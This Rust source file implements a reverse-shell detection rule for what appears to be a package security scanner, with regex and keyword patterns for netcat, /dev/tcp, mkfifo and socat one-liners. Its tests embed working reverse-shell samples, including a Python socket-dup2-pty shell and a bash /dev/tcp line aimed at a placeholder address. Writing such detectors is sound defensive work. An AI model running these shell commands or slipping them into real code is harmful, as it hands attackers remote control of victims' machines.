//! reverse-shell: a socket wired to a shell (`socket` + `os.dup2` + `pty.spawn`/`/bin/sh`), or
//! the shell one-liners that do the same (`bash -i >& /dev/tcp/...`, `nc -e`).

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::patterns::{self, AsciiRegex, Keywords};
use crate::inspect::rules::{mark, string_marks};
use crate::inspect::{Emitter, FileCx, FileKind};

pub static INFO: RuleInfo = RuleInfo {
    id: "reverse-shell",
    severity: Severity::Critical,
    summary: "A network socket is connected to an interactive shell",
    help: "Reports code that connects a socket and redirects a shell's standard streams to it \
           (socket connect + os.dup2 + pty.spawn or a /bin/sh, bash, cmd.exe or powershell \
           process, or a process whose stdin/stdout is the socket), and the shell one-liners \
           that do the same (`bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, mkfifo + nc). \
           This gives a remote operator a shell on the machine; there is no benign use in a \
           library.",
};

static ONELINER: AsciiRegex = AsciiRegex::new(
    r"(?i)(/dev/(tcp|udp)/[\w.\-]+/\d+|\b(nc|ncat|netcat)\b[^\n]*\s-(e|c)\s*\S*(sh|cmd)|mkfifo[^\n]*\|\s*(nc|ncat)\b|socat\b[^\n]*exec:[^\n]*(sh|bash))",
);

/// Literals one of which every match of [`ONELINER`] contains, but for the `nc -e` form.
pub(crate) const WORDS: &[&str] = &["/dev/tcp/", "/dev/udp/", "mkfifo", "socat"];
/// The `nc -e` form needs one of these...
pub(crate) const NETCAT_WORDS: &[&str] = &["nc", "netcat"];
/// ...and one of these.
pub(crate) const NETCAT_FLAG_WORDS: &[&str] = &["-e", "-c"];

/// Groups 0, 1 and 2: [`WORDS`], [`NETCAT_WORDS`], [`NETCAT_FLAG_WORDS`].
static KEYWORDS: Keywords = Keywords::new(&[WORDS, NETCAT_WORDS, NETCAT_FLAG_WORDS]);

/// Whether `text` matches [`ONELINER`], given which of the three keyword groups it has.
fn oneliner(text: &str, words: bool, netcat: bool, flag: bool) -> bool {
    (words || netcat && flag) && ONELINER.is_match(text)
}

fn oneliner_line(line: &str) -> bool {
    let g = KEYWORDS.groups_in(line);
    oneliner(line, g & 1 != 0, g & 2 != 0, g & 4 != 0)
}

fn shell_words(t: &str) -> bool {
    let l = t.to_ascii_lowercase();
    [
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "cmd.exe",
        "powershell",
        "bash -i",
        "sh -i",
    ]
    .iter()
    .any(|w| l.contains(w))
        || l.trim() == "sh"
        || l.trim() == "bash"
}

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    if let Some(facts) = cx.facts {
        let socket = facts.imports.contains_key("socket");
        let connect = facts.calls.iter().any(|c| {
            matches!(
                c.name.as_str(),
                "socket.create_connection"
                    | "socket.socket().connect"
                    | "socket.socket().connect_ex"
            ) || socket && patterns::method_is(&c.name, "connect")
        });
        if connect {
            let dup2 = facts.calls.iter().find(|c| c.name == "os.dup2");
            let shell = facts.calls.iter().find(|c| {
                c.name == "pty.spawn"
                    || c.is_process()
                        && (c
                            .args
                            .first()
                            .and_then(|a| a.text())
                            .is_some_and(|t| shell_words(&t))
                            || c.kwargs.iter().any(|(k, a)| {
                                matches!(k.as_str(), "stdin" | "stdout")
                                    && a.dotted.is_none()
                                    && a.text().is_none()
                            }))
            });
            let redirected =
                shell.is_some_and(|s| s.kwargs.iter().any(|(k, _)| k == "stdin" || k == "stdout"));
            if let Some(sh) = shell {
                if dup2.is_some() || redirected {
                    let line = dup2.map(|d| d.line).unwrap_or(sh.line).min(sh.line);
                    out.emit(
                        &INFO,
                        sh.ctx.pick(Severity::Critical, Severity::Critical),
                        Confidence::High,
                        line,
                        "socket connected to an interactive shell (reverse shell)",
                        sh.note.as_deref(),
                    );
                }
            }
        }
        for (s, &m) in facts.strings.iter().zip(string_marks(cx)) {
            let words = m & mark::REVERSE_SHELL != 0;
            let netcat = m & mark::NETCAT != 0;
            if oneliner(&s.text, words, netcat, m & mark::NETCAT_FLAG != 0) {
                out.emit(
                    &INFO,
                    s.ctx.pick(Severity::Critical, Severity::Critical),
                    Confidence::High,
                    s.line,
                    "reverse-shell one-liner",
                    s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()),
                );
            }
        }
    }
    if cx.raw_pass || cx.kind == FileKind::Script {
        for (n, line) in cx.text_lines() {
            if !line.trim_start().starts_with('#') && oneliner_line(line) {
                out.emit(
                    &INFO,
                    Severity::High,
                    Confidence::Medium,
                    n,
                    "reverse-shell one-liner in a shipped script",
                    None,
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn prefilter_and_ascii_build_agree_with_the_unicode_regex() {
        let mut fragments = super::WORDS.to_vec();
        fragments.extend(super::NETCAT_WORDS);
        fragments.extend(super::NETCAT_FLAG_WORDS);
        fragments.extend([
            "bash -i >& /dev/tcp/192.0.2.1/4444",
            "nc ",
            "ncat",
            " -e /bin/sh",
            " -c cmd",
            "mkfifo /tmp/f; cat /tmp/f | nc ",
            "socat exec:bash",
        ]);
        super::ONELINER.assert_agrees(&fragments, 10_000, super::oneliner_line);
    }

    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn classic_python_reverse_shell() {
        let src = "import socket, os, pty\ndef r():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('192.0.2.1', 4444))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')\n";
        assert_eq!(
            worst("reverse-shell", "pkg/a.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn bash_dev_tcp_string() {
        let src = "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n";
        assert_eq!(
            worst("reverse-shell", "pkg-1.0/setup.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn pty_without_socket_is_fine() {
        let src = "import os, pty\ndef spawn(argv):\n    pid, fd = pty.fork()\n    os.dup2(fd, 0)\n    pty.spawn('/bin/sh')\n";
        assert_eq!(worst("reverse-shell", "pkg/a.py", src), None);
    }
}
